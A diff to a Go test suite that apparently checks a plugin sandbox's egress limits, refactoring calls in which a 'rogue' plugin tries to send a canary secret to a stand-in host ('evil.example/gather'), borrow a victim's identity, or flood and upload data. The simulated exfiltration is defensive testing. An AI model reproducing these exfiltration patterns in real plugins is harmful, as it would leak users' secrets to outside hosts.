@@ -24,7 +24,7 @@ func said(text string) func(w *world) (bool, error) {
 		var came atomic.Bool
 		w.serve(api, http.HandlerFunc(func(_ http.ResponseWriter, r *http.Request) { io.Copy(io.Discard, r.Body); came.Store(true) }))
 		d := w.den("rogue")
-		got, err := d.got(d.online(api), "acme", "rogue", "egress:raw", text)
+		got, err := d.got(d.online(api), "rogue", "egress:raw", text)
 		return came.Load(), refusal(got, err)
 	}
 }
@@ -42,10 +42,10 @@ func refusal(got string, err error) error {
 func goesElsewhere(do string) func(w *world) (bool, error) {
 	return func(w *world) (bool, error) {
 		d := w.den("rogue")
-		if _, err := d.got(d.online(evil), "acme", "rogue", "egress:"+do, evil+"/gather"); err != nil {
+		if _, err := d.got(d.online(evil), "rogue", "egress:"+do, evil+"/gather"); err != nil {
 			return false, err
 		}
-		_, err := d.got(d.online(api), "acme", "rogue", "egress:report", "")
+		_, err := d.got(d.online(api), "rogue", "egress:report", "")
 		return w.evilGot(canary), err
 	}
 }
@@ -56,7 +56,7 @@ var pluginsThatReach = attempts{
 		says: "https://evil.example",
 		run: func(w *world) (bool, error) {
 			d := w.den("rogue")
-			_, err := d.got(d.online(api), "acme", "rogue", "egress:fetch", evil+"/gather")
+			_, err := d.got(d.online(api), "rogue", "egress:fetch", evil+"/gather")
 			return w.evilGot(canary), err
 		},
 	},
@@ -67,7 +67,7 @@ var pluginsThatReach = attempts{
 			if w.easy {
 				how = "egress:fetch"
 			}
-			_, err := d.got(d.online(evil), "acme", "rogue", how, evil+"/gather")
+			_, err := d.got(d.online(evil), "rogue", how, evil+"/gather")
 			return w.evilGot(canary), err
 		},
 	},
@@ -89,8 +89,8 @@ var pluginsThatReach = attempts{
 			ctx, cancel := context.WithTimeout(d.online(theirs), 10*time.Second)
 			defer cancel()
 			victim := make(chan error, 1)
-			go func() { _, err := d.got(ctx, "victim", "rogue", "egress:confess", theirs+"/confess"); victim <- err }()
-			_, err := d.got(d.online(api), "acme", "rogue", "egress:borrow", <-id+" "+theirs+"/steal")
+			go func() { _, err := d.gotFor(ctx, "victim", "rogue", "egress:confess", theirs+"/confess"); victim <- err }()
+			_, err := d.got(d.online(api), "rogue", "egress:borrow", <-id+" "+theirs+"/steal")
 			cancel()
 			<-victim
 			return len(came) > 0 && <-came, err
@@ -99,10 +99,10 @@ var pluginsThatReach = attempts{
 	"a secret carried to another workspace": {
 		run: func(w *world) (bool, error) {
 			d := w.den("rogue")
-			if _, err := d.got(w.ctx, "victim", "rogue", "act:remember", ""); err != nil {
+			if _, err := d.gotFor(w.ctx, "victim", "rogue", "act:remember", ""); err != nil {
 				return false, err
 			}
-			_, err := d.got(d.online(evil), "acme", "rogue", "egress:carry", evil+"/gather")
+			_, err := d.got(d.online(evil), "rogue", "egress:carry", evil+"/gather")
 			return w.evilGot(canary), err
 		},
 	},
@@ -126,7 +126,7 @@ var pluginsThatReach = attempts{
 		run: func(w *world) (bool, error) {
 			w.serve(api, http.NotFoundHandler())
 			d := w.den("rogue")
-			got, err := d.got(d.online(api), "acme", "rogue", "egress:many", "100")
+			got, err := d.got(d.online(api), "rogue", "egress:many", "100")
 			if err == nil && got != "100" && got != "32" {
 				err = errors.New("it got " + got + " connections")
 			}
@@ -142,7 +142,7 @@ var pluginsThatReach = attempts{
 				received.Store(n)
 			}))
 			d := w.den("rogue")
-			got, err := d.got(d.online(api), "acme", "rogue", "egress:upload", "3000000")
+			got, err := d.got(d.online(api), "rogue", "egress:upload", "3000000")
 			return received.Load() >= 3_000_000, refusal(got, err)
 		},
 	},
@@ -155,7 +155,7 @@ var pluginsThatReach = attempts{
 				rw.Write(make([]byte, 500_000))
 			}))
 			d := w.den("rogue")
-			_, err := d.got(d.online(api), "acme", "rogue", "egress:again", "20")
+			_, err := d.got(d.online(api), "rogue", "egress:again", "20")
 			return asked.Load() == 20, err
 		},
 	},
